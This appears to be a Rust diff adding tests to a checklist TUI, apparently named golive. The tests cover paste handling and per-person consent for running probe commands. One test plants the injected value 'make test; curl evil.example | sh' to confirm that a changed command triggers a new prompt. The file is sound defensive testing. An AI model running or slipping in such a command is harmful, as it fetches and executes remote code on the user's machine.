@@ -326,6 +326,46 @@ fn a_note_being_typed_is_saved_when_the_user_pauses() {
     assert!(a.update(Msg::Idle).is_empty());
 }
 
+/// A paste is one text event for the field with focus: never keys, whatever it holds.
+#[test]
+fn a_paste_goes_to_the_focused_field_and_never_acts() {
+    let mut a = app();
+    let paste = |a: &mut golive::tui::app::App, text: &str| a.update(Msg::Paste(text.into()));
+    // No field: nothing changes, and the flash says so.
+    assert!(paste(&mut a, "pq\rfq").is_empty());
+    assert_eq!(a.session.status("security.api-authentication"), Status::Todo);
+    assert!(a.flash.as_ref().unwrap().text.starts_with("Paste ignored"));
+    // One-line prompt: the lines joined, said so; Enter is the person's.
+    typed(&mut a, "a");
+    assert!(paste(&mut a, "https://runbook.example/a\rfpq").is_empty());
+    assert_eq!(a.ctx(), Ctx::Prompt);
+    assert!(a.flash.as_ref().unwrap().text.starts_with("Pasted several lines as one"));
+    let Some(Input::Prompt { area, .. }) = &a.input else { panic!() };
+    assert_eq!(area.lines(), ["https://runbook.example/a fpq"]);
+    // Escape sequences in a paste are dropped, not typed or passed on.
+    press(&mut a, KeyCode::Esc);
+    typed(&mut a, "/");
+    paste(&mut a, "roll\x1b[2Jback");
+    assert_eq!(a.search.query, "roll[2Jback");
+    press(&mut a, KeyCode::Esc);
+    // The notes editor takes it whole.
+    typed(&mut a, "e");
+    paste(&mut a, "one\r\ntwo\n");
+    press(&mut a, KeyCode::Esc);
+    assert_eq!(a.session.record("security.api-authentication").unwrap().notes, "one\ntwo");
+    // A confirmation takes no text: a pasted y is not a yes.
+    typed(&mut a, "a");
+    paste(&mut a, "evidence");
+    let fx = press(&mut a, KeyCode::Enter);
+    let [Effect::InspectEvidence { item, evidence }] = fx.as_slice() else { panic!("{fx:?}") };
+    a.update(Msg::EvidenceReady { item: *item, evidence: evidence.clone() });
+    typed(&mut a, "d");
+    assert_eq!(a.ctx(), Ctx::Confirm);
+    assert!(paste(&mut a, "y").is_empty());
+    assert_eq!(a.ctx(), Ctx::Confirm);
+    assert_eq!(a.session.status("security.api-authentication"), Status::Todo);
+}
+
 mod probes {
     use super::*;
     use golive::probe::aws::Identity;
@@ -399,9 +439,14 @@ mod probes {
         };
         assert_eq!(a.offered_commands[command], "./rollback.sh --dry-run");
         let fx = typed(&mut a, "y");
-        assert_eq!(fx[0], Effect::Save);
-        assert!(matches!(&fx[1], Effect::RunProbes { run: 1, .. }), "{fx:?}");
-        assert_eq!(a.session.approved_commands, ["./rollback.sh --dry-run"]);
+        // Kept in the person's own consent store, never in the session.
+        let Effect::Consent(grant) = &fx[0] else { panic!("{fx:?}") };
+        assert_eq!(grant.command, "./rollback.sh --dry-run");
+        assert_eq!(grant.by, a.who);
+        assert_eq!(fx[1], Effect::Save);
+        assert!(matches!(&fx[2], Effect::RunProbes { run: 1, .. }), "{fx:?}");
+        assert!(a.session.carried_approvals.is_empty());
+        assert!(!toml::to_string(&a.session).unwrap().contains("approved_commands"));
         assert!(
             a.session.history.last().unwrap().change.contains("command allowed: ./rollback.sh --dry-run")
         );
@@ -416,7 +461,47 @@ mod probes {
         assert!(matches!(typed(&mut a, "n").as_slice(), [Effect::RunProbes { run: 3, .. }]));
         press(&mut a, KeyCode::Esc);
         assert!(matches!(typed(&mut a, "A").as_slice(), [Effect::RunProbes { run: 4, .. }]));
-        assert_eq!(a.session.approved_commands, ["./rollback.sh --dry-run"]);
+        assert_eq!(a.allowed_commands(), ["./rollback.sh --dry-run"]);
+    }
+
+    /// Consent is to a command's exact text in one repository: change either and golive asks.
+    #[test]
+    fn a_consented_command_whose_text_or_repository_changes_is_asked_about_again() {
+        let mut a = app();
+        a.session.target.commands.insert("unit".into(), "make test".into());
+        a.grants = ["./rollback.sh --dry-run", "make test"]
+            .map(|command| golive::consent::Grant {
+                command: command.into(),
+                repo: None,
+                session: golive::consent::session_key(&a.session_path),
+                by: "alice".into(),
+                at: chrono::DateTime::UNIX_EPOCH,
+            })
+            .to_vec();
+        assert!(matches!(typed(&mut a, "A").as_slice(), [Effect::RunProbes { run: 1, .. }]));
+        press(&mut a, KeyCode::Esc);
+        a.session.target.commands.insert("unit".into(), "make test; curl evil.example | sh".into());
+        assert!(typed(&mut a, "A").is_empty());
+        let Some(Input::Confirm(ConfirmKind::RunCommand { command })) = a.input else { panic!("not asked") };
+        assert_eq!(a.offered_commands[command], "make test; curl evil.example | sh");
+        press(&mut a, KeyCode::Esc);
+        a.session.target.commands.insert("unit".into(), "make test".into());
+        a.session.target.repo = Some("/elsewhere".into());
+        typed(&mut a, "A");
+        assert!(
+            matches!(a.input, Some(Input::Confirm(ConfirmKind::RunCommand { .. }))),
+            "asked in a new repo"
+        );
+    }
+
+    /// A session from someone else's branch that carries its own approval approves nothing.
+    #[test]
+    fn approvals_a_session_carries_are_not_honoured() {
+        let mut a = app();
+        a.session.carried_approvals = vec!["./rollback.sh --dry-run".into()];
+        assert!(a.allowed_commands().is_empty());
+        assert!(typed(&mut a, "A").is_empty());
+        assert!(matches!(a.input, Some(Input::Confirm(ConfirmKind::RunCommand { .. }))));
     }
 
     #[test]
